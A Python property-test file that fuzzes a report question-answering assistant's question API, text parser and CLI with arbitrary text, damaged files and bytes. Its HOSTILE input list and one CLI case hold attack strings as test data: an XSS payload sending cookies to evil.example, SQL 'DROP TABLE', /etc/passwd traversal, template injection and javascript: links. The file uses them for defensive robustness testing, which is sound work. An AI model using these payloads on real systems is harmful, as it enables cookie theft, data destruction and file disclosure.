"""Any text at all as a question, and any text at all as a report: property tests with hypothesis.

Questions go through :meth:`Assistant.ask` over an index built with the FakeEmbedder (the
retrieval code is the real one); the answer is always an :class:`Answer` or a
:class:`QuestionError`, its quotes are passages of the index unchanged, and it can be printed
and sent as JSON. Reports go through the plain-text parser, the one structure model and the
passage splitter: every character is accounted for and ids are stable.
"""

from __future__ import annotations

import functools
import json
import re
import tempfile
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from assistant.answer import answer_dict, render_text
from assistant.errors import IngestError, QuestionError
from assistant.ingest import parse_bytes
from assistant.ingest.lines import is_boilerplate
from assistant.ingest.structure import assemble, normalise_space
from assistant.ingest.text import BULLET, parse_text
from assistant.passages import report_passages
from assistant.records import Passage, Report, ReportMeta
from assistant.retrieval.query import MAX_QUESTION_CHARS
from assistant.service import Assistant
from assistant.settings import Settings
from tests.support.corpus import make_corpus, settings_for
from tests.support.fakes import FakeEmbedder
from tests.support.fixtures import write_all

ANY_CHAR = st.characters(exclude_categories=())  # every code point, lone surrogates included
DECODED_CHAR = st.characters(codec="utf-8")  # what a decoder yields: no lone surrogates
HOSTILE = [
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
    "[click](javascript:alert(1)) ![x](http://evil.example/p.png)",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "'; DROP TABLE passages; --",
    "../../../../etc/passwd",
    "\u202eslaicifitrec evitceted\u202c",
    "ما هي نتائج التفتيش عن المحققين؟",
    "מה נאמר על מחסור בבלשים",
    "👮‍♀️🚓 detective shortages 🔥" * 3,
    "Z̴̡̛͎a̷̧͕l̸̰̈́g̶̱̈o̸̠͒ detective",
    "\x00\x01\x02detective\x7f\x85\u200b\ufeff shortages",
    "\ud800\udfff unpaired halves",
]
questions = st.one_of(
    st.text(ANY_CHAR, max_size=200),
    st.text(st.sampled_from(" \t\n\r\x00\x0b\x1b\u200b\ufeff"), max_size=50),
    st.sampled_from(HOSTILE),
    st.builds(lambda s, n: s * n, st.text(ANY_CHAR, min_size=1, max_size=5), st.integers(1, 30_000)),
)


@pytest.fixture(scope="module")
def assistant(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Assistant]:
    base = tmp_path_factory.mktemp("questions")
    fake = FakeEmbedder()
    opened = Assistant.open(
        settings_for(make_corpus(base / "corpus"), base / "index"),
        query_embedder=fake,
        build_embedder=fake,
        progress=False,
        log=lambda _m: None,
    )
    yield opened
    opened.live.get().close()


def _has_content(raw: str) -> bool:
    """Whether anything is left once spaces, control and invisible format characters are taken out."""
    return any(not (c.isspace() or unicodedata.category(c) in ("Cc", "Cf", "Cs")) for c in raw)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(question=questions, k=st.integers(1, 12))
@example(question="", k=5)
@example(question="x" * 100_000, k=5)
@example(question="a", k=1)
def test_any_question_gets_an_answer_or_a_question_error(assistant: Assistant, question: str, k: int) -> None:
    try:
        answer = assistant.ask(question, k=k)
    except QuestionError as exc:
        assert "empty" in str(exc) and not _has_content(question)
        return
    assert 1 <= len(answer.hits) <= k
    table = assistant.live.get().table
    by_id = {p.id: p for p in table}
    for hit in answer.hits:
        assert by_id[hit.passage.id] == hit.passage  # a quote of the index, unchanged: citations right
        if hit.support is not None:
            assert 0 <= hit.support[0] < hit.support[1] <= len(hit.passage.text)
    assert len(answer.question) <= MAX_QUESTION_CHARS
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\ud800-\udfff]", answer.question)
    cut = answer.notice is not None and "characters long; only its first" in answer.notice
    if sum(map(_has_content, question)) > MAX_QUESTION_CHARS:
        assert cut  # a question cut to the limit says so
    if len(question) <= MAX_QUESTION_CHARS:
        assert not cut
    json.dumps(answer_dict(answer), ensure_ascii=False).encode("utf-8")  # strict: no lone surrogates
    render_text(answer).encode("utf-8")


@pytest.mark.parametrize("k", [0, -1, 51, 2.5, "5", None])
def test_bad_k_is_a_question_error_or_the_default(assistant: Assistant, k: object) -> None:
    if k is None:
        assert len(assistant.ask("detective shortages", k=k).hits) == assistant.settings.k
        return
    with pytest.raises(QuestionError, match="k must be a whole number from 1 to 50"):
        assistant.ask("detective shortages", k=k)  # type: ignore[arg-type]


@pytest.mark.parametrize("raw", [None, 42, b"detective shortages", ["detective"], {"q": 1}])
def test_a_question_that_is_not_text_is_a_question_error(assistant: Assistant, raw: object) -> None:
    with pytest.raises(QuestionError, match="must be text"):
        assistant.ask(raw)


# -- any text as a report --------------------------------------------------------------------------

LINES = st.one_of(
    st.text(DECODED_CHAR, max_size=60),
    st.sampled_from(
        [
            "",
            "",
            "How effective is the force at keeping people safe?",
            "Areas for improvement",
            "Requires improvement",
            "Good",
            "Last updated 22/03/2018",
            "Skip to main content",
            "Back to top",
            "The force should improve its crime data:",
            "The force has too few detectives.",
            "- a bullet item",
            "• another bullet item that runs on",
            "  and continues on an indented line",
            "1. numbered item",
            "(a) lettered item",
            "\tTabbed text with \x00 NUL and \x0c form feed",
        ]
    ),
)
documents = st.lists(LINES, max_size=40).map("\n".join)


def _parse(text: str) -> tuple[Report, list[Passage]]:
    elements = parse_text(text)
    report = Report(ReportMeta(id="prop", title="Prop", path="prop.txt"), assemble(elements), text)
    return report, list(report_passages(report))


@settings(max_examples=400, deadline=None)
@given(text=st.one_of(documents, st.text(DECODED_CHAR, max_size=400)))
@example(text="Title\n\nHeading?\n\nA paragraph.\n\nA paragraph.\n\n- item\n- item\n")
def test_any_text_parses_into_passages_that_cover_it_with_stable_ids(text: str) -> None:
    _, passages = _parse(text)
    covered = [False] * len(text)
    structure_kinds = ("title", "heading", "grade", "updated", "published")
    for el in parse_text(text):
        assert 0 <= el.start <= el.end <= len(text)
        if el.kind in structure_kinds:
            covered[el.start : el.end] = [True] * (el.end - el.start)
    for p in passages:
        assert p.text and p.text == normalise_space(text[p.start : p.end])
        covered[p.start : p.end] = [True] * (p.end - p.start)
    pos = 0
    for line in text.splitlines(keepends=True):  # what no passage or structure holds is space,
        marker = BULLET.match(line)  # a bullet marker or a boilerplate line
        for i, ch in enumerate(line):
            if covered[pos + i] or ch.isspace() or (marker and i < marker.end()):
                continue
            assert is_boilerplate(line), (line, ch)
        pos += len(line)
    ids = [p.id for p in passages]
    assert len(set(ids)) == len(ids)
    assert ids == [p.id for p in _parse(text)[1]]


@functools.cache
def _real_files() -> dict[str, bytes]:
    """The Met report as PDF, Word, HTML and Markdown (made once), for damaging in the test below."""
    folder = Path(tempfile.mkdtemp(prefix="reliability-files-"))
    made = write_all(folder, formats=("pdf", "docx", "html", "md"))
    return {path.name: path.read_bytes() for path in made.values()}


@st.composite
def damaged_files(draw: st.DrawFn) -> tuple[bytes, str]:
    """A real report file cut short, with bytes overwritten, or both; or random bytes."""
    if draw(st.booleans()):
        return draw(st.binary(max_size=2000)), draw(
            st.sampled_from(["r.txt", "r.md", "r.html", "r.pdf", "r.docx"])
        )
    name, data = draw(st.sampled_from(sorted(_real_files().items())))
    buffer = bytearray(data[: draw(st.one_of(st.just(len(data)), st.integers(0, len(data))))])
    for _ in range(draw(st.integers(0, 8)) if buffer else 0):
        buffer[draw(st.integers(0, len(buffer) - 1))] = draw(st.integers(0, 255))
    return bytes(buffer), name


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(file=damaged_files())
@example(file=(b"\xff\xfe\x00d\x00e\x00t", "r.txt"))
@example(file=(b"<html><body><h1>T</h1>" + b"<div>" * 600, "r.html"))
def test_any_bytes_are_a_report_or_an_ingest_error_naming_the_file(file: tuple[bytes, str]) -> None:
    data, name = file
    folder = Path("/nonexistent-corpus")
    try:
        report = parse_bytes(data, folder / name, folder)
    except IngestError as exc:
        assert exc.path.endswith(name) and "could not be parsed" not in exc.reason  # no unexpected failure
        return
    assert any(s.blocks for s in report.sections)
    assert all(p.text for p in report_passages(report))


def test_lone_surrogates_from_a_parser_become_replacement_characters(monkeypatch: pytest.MonkeyPatch) -> None:
    from assistant import ingest
    from assistant.ingest.limits import Limits
    from assistant.ingest.structure import Parsed

    def leaky(data: bytes, name: str, limits: Limits) -> Parsed:  # as a PDF font map might decode
        text = "Ti\udfffle\n\nWhat?\n\nBad \ud800 glyph.\n"
        return Parsed(text, parse_text(text), {"publisher": "P\udfff"})

    monkeypatch.setitem(ingest.FORMATS, "text", leaky)
    report = parse_bytes(b"anything", Path("/c/r.txt"), Path("/c"))
    (passage,) = report_passages(report)
    assert passage.text == "Bad \ufffd glyph." and report.meta.title == "Ti\ufffdle"
    assert report.meta.publisher == "P\ufffd"
    json.dumps(passage.to_dict(), ensure_ascii=False).encode("utf-8")


@pytest.mark.slow
@pytest.mark.parametrize(
    "arg",
    [
        b"detective \xff\xfe shortages",  # not UTF-8: the shell passes bytes through
        b"<script>alert(1)</script> **detective** [x](javascript:1)",
        "\u202e ما هو 🚓 detective".encode(),
        b"detective " * 10_000,
        b"\x1b\x07 \t \x7f\x08",
    ],
    ids=["invalid-utf8", "injection", "rtl-emoji", "100k", "controls-only"],
)
def test_the_cli_answers_any_argument_with_the_real_model(real_index: Settings, arg: bytes) -> None:
    import subprocess
    import sys

    from tests.support.corpus import ROOT

    where = ["--corpus", str(real_index.corpus), "--index", str(real_index.index)]
    result = subprocess.run(
        [sys.executable, "-m", "assistant", "ask", arg, "--json", *where],
        cwd=ROOT,
        capture_output=True,
        timeout=300,
    )
    err = result.stderr.decode("utf-8")
    assert "Traceback" not in err
    if arg.strip(b" \t\x1b\x07\x7f\x08") == b"":
        assert result.returncode == 1 and err.strip().startswith("error: the question is empty")
        return
    assert result.returncode == 0, err
    answer = json.loads(result.stdout.decode("utf-8"))  # valid UTF-8 JSON, whatever came in
    assert answer["passages"] and all(
        p["citation"].startswith("Metropolitan PEEL 2017") for p in answer["passages"]
    )
    assert ("characters long" in (answer["notice"] or "")) == (len(arg) > MAX_QUESTION_CHARS)
